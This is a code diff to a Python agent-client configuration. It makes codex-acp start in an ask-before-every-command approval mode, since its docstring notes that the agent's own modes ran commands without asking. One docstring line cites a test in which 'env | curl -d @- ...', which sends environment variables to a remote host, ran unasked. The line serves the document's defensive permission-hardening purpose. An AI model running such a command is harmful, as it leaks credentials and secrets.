@@ -30,6 +30,9 @@ class AcpQuirks:
     is the tool, so the policy sees a read or a write, not an MCP call.
     ``mode_notices`` says, per Chorus mode, why the agent runs in another mode than
     its own of that name (a ``policy`` notice when the mode is set).
+    ``mode_args`` holds, per Chorus mode, the arguments that make the agent hold that
+    mode itself from its start, where none of its own modes does (codex-acp: ask for
+    every command and edit): such a mode is never set with ``session/set_mode``.
     """
 
     load_session: bool = True
@@ -42,6 +45,7 @@ class AcpQuirks:
     mode_aliases: Mapping[str, str] = field(default_factory=lambda: MappingProxyType({}))
     own_tool_prefix: str | None = None
     mode_notices: Mapping[str, str] = field(default_factory=lambda: MappingProxyType({}))
+    mode_args: Mapping[str, tuple[str, ...]] = field(default_factory=lambda: MappingProxyType({}))
 
 
 GEMINI_QUIRKS = AcpQuirks(
@@ -70,9 +74,28 @@ and Edit for ``mcp__acp__Read``/``Write``/``Edit``, served by ``fs/*`` requests.
 ``plan`` mode ran ``echo x > f`` and ``sudo ls`` without a permission request
 (observed with 0.16.2), so Chorus's plan mode uses its ``default`` mode."""
 
+
+def _codex_asks(sandbox: str) -> tuple[str, ...]:
+    """Codex config for "ask before every command and edit it does not know as
+    safe" (the ``codex`` body's own mapping of these modes, ``MODE_POLICIES``)."""
+    return ("-c", 'approval_policy="untrusted"', "-c", f'sandbox_mode="{sandbox}"')
+
+
 CODEX_ACP_QUIRKS = AcpQuirks(
-    mode_aliases=MappingProxyType(
-        {"plan": "read-only", "acceptEdits": "auto", "bypassPermissions": "full-access"}
+    mode_aliases=MappingProxyType({"bypassPermissions": "full-access"}),
+    mode_args=MappingProxyType(
+        {
+            "default": _codex_asks("workspace-write"),
+            "acceptEdits": _codex_asks("workspace-write"),
+            "plan": _codex_asks("read-only"),
+        }
     ),
 )
-"""codex-acp 0.16: modes ``read-only`` (its default), ``auto``, ``full-access``."""
+"""codex-acp 0.16 offers the modes ``read-only`` (its default), ``auto`` and
+``full-access``, and none asks before a command: ``read-only`` and ``auto`` run any
+command in Codex's own sandbox unasked (``read-only``: a write fails, "Read-only file
+system"; ``env | curl -d @- ...`` ran), ``full-access`` runs everything. So Chorus's
+asking modes start it with Codex's ``untrusted`` approval policy (every command
+Codex does not know as safe, and every edit, is a permission request: Chorus's
+policy decides; an approved one runs), and ``bypassPermissions`` is ``full-access``.
+Once in ``full-access`` it cannot ask again (no mode of its own does)."""
